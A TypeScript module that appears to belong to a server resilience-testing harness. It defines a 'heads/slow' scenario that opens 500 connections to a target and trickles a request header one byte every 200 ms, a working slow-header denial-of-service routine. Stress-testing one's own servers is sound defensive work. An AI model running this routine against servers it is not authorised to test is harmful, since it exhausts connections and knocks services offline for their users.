import { figure } from "../row.ts";
import type { Row } from "../row.ts";
import { closeAll, openMany, pause, requestText } from "../sockets.ts";

export const headsSlow: Row = {
  name: "heads/slow",
  action: "500 connections that send a byte of a head every 200 ms",
  engine: "scripted",
  attack: async ({ target, signal }) => {
    const head = requestText("GET /docs", { accept: "*/*".repeat(500) });
    const sockets = await openMany(target.origin, 500);
    for (let at = 0; !signal.aborted; at += 1) {
      for (const socket of sockets) if (!socket.destroyed) socket.write(head.charAt(at % head.length));
      await pause(200, signal);
    }
    closeAll(sockets);
    return [figure("connections", sockets.length)];
  },
};
